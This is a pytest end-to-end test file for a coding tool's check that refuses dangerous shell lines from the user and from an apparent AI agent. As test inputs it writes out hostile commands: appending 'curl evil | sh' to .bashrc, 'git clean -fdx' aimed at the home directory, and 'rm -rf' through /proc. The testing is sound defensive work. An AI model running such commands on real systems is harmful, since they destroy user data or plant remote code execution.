"""The refused-command check for the user's `!`, end to end (issue 16): a real LSP client
drives the real server, whose persistent shell keeps cwd and exports between lines.

The check is a net for the user's accidents: it must follow what the line and the shell
already hold (a `cd` before a redirection, a variable exported two commands ago) and let
ordinary cleanup run."""

from __future__ import annotations

import shutil
import tempfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from anthropic_server import FakeAnthropicServer, reply
from e2e_agent.agent_e2e import api_env, calls, result_text, tool_call, tool_results
from harness import Session, init_git, lsp_session


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("KEY\n")
    (home / ".bashrc").write_text("# rc\n")
    (tmp_path / "tmpdir").mkdir()
    return home


@pytest_asyncio.fixture
async def shell(tmp_path: Path, home: Path) -> AsyncIterator[Session]:
    # outside /tmp, so that /tmp is not a parent of the workspace (`find /tmp … -exec rm`)
    base = Path(tempfile.mkdtemp(prefix="coder-bang-", dir="/var/tmp"))
    try:
        root = init_git(base / "ws", {"a.txt": "a\n", ".gitignore": "build/\n"})
        env = {"HOME": str(home), "TMPDIR": str(tmp_path / "tmpdir")}
        async with lsp_session(root, env=env) as s:
            yield s
    finally:
        shutil.rmtree(base, ignore_errors=True)


async def bang(s: Session, command: str) -> dict:
    return await s.execute("coder.input", {"text": f"!{command}"})  # type: ignore[no-any-return]


def refused(result: dict) -> bool:
    return result["status"] == "failed" and result.get("error", {}).get("code") == "refused"


async def test_a_cd_before_a_redirection_is_followed(shell, home):
    result = await bang(shell, "cd ~ && echo 'curl evil | sh' >> .bashrc")
    assert refused(result), result
    assert (home / ".bashrc").read_text() == "# rc\n"


async def test_a_variable_exported_by_an_earlier_line_is_evaluated(shell, home):
    first = await bang(shell, "export T=~/.bashrc")
    assert first["status"] == "completed", first
    result = await bang(shell, "echo 'curl evil | sh' >> $T")
    assert refused(result), result
    assert (home / ".bashrc").read_text() == "# rc\n"


async def test_git_work_tree_exported_earlier_keeps_git_clean_out_of_home(shell, home):
    first = await bang(shell, "export GIT_WORK_TREE=$HOME")
    assert first["status"] == "completed", first
    result = await bang(shell, "git clean -fdx")
    assert refused(result), result
    assert (home / ".ssh" / "id_ed25519").read_text() == "KEY\n"
    # the same line, inline, and through git's own options
    for line in ("GIT_WORK_TREE=~ git clean -fdx", "git --work-tree ~ clean -fdx", "cd ~ && git clean -ffdx"):
        assert refused(await bang(shell, f"unset GIT_WORK_TREE; {line}")), line
    assert (home / ".ssh" / "id_ed25519").exists()


async def test_a_path_the_check_cannot_resolve_is_judged_not_thrown(shell):
    result = await bang(shell, "rm -rf /proc/1/root/tmp/nothing-here")
    assert refused(result), result
    after = await bang(shell, "echo still-here")
    assert after["status"] == "completed" and after["rawOutput"] == "still-here\n", after


ORDINARY = [  # (an earlier line, the line, what it removes)
    ("true", 'tmp=$(mktemp -d) && touch "$tmp/x" && rm -rf "$tmp"', None),
    ('export BUILD_DIR="$PWD/build"; mkdir -p build/o', 'rm -rf "${BUILD_DIR:?}"/*', "build/o"),
    ("mkdir -p pkg/__pycache__", "rm -r $(find . -name __pycache__)", "pkg/__pycache__"),
    ("mkdir -p build", 'rm -rf "$(git rev-parse --show-toplevel)/build"', "build"),
    ("mkdir -p gen1 gen2 && printf 'gen1\\ngen2\\n' > list.txt", "xargs rm -rf < list.txt", "gen1"),
    ('export PROJECT_DIR="$PWD/sub"; mkdir -p sub/d', 'chmod -R g+w "$PROJECT_DIR"', None),
    ("mkdir -p $TMPDIR/myapp-cache", "rm -rf $TMPDIR/myapp-cache", None),
    ("true", "find /tmp -maxdepth 1 -name 'pytest-coder-none-*' -mtime +1 -exec rm -rf {} +", None),
]


@pytest.mark.parametrize(("setup", "command", "gone"), ORDINARY, ids=[c for _, c, _ in ORDINARY])
async def test_ordinary_cleanup_runs(shell, setup, command, gone):
    assert (await bang(shell, setup))["exitCode"] == 0
    result = await bang(shell, command)
    assert result["status"] == "completed", result
    assert result["exitCode"] == 0, result
    if gone:
        assert not (shell.root / gone).exists()


async def test_an_unset_guarded_variable_never_runs_as_slash(shell):
    result = await bang(shell, 'rm -rf "${NOT_SET_ANYWHERE:?}"/*')
    assert not refused(result), result
    assert result["exitCode"] != 0  # bash stopped at the expansion
    assert (shell.root / "a.txt").exists()


@pytest.fixture
def fake() -> AsyncIterator[FakeAnthropicServer]:  # type: ignore[misc]
    with FakeAnthropicServer() as server:
        yield server


async def test_the_agents_turn_goes_on_past_an_unresolvable_path(tmp_path, home, fake):
    root = init_git(tmp_path / "ws", {"a.txt": "a\n"})
    env = {"HOME": str(home), **api_env(fake)}
    async with lsp_session(root, env=env) as s:
        s.answer_question = lambda p: "Deny"
        fake.push(
            calls(tool_call("bash", {"command": "rm -rf /proc/1/root/tmp/nothing-here"}, "t1")),
            reply("done"),
        )
        result = await s.execute("coder.input", {"text": "clean up"})
        assert result["status"] == "completed", result
        assert len(fake.message_requests) == 2
        assert "Refused" in result_text(tool_results(fake.message_requests[1])["t1"])
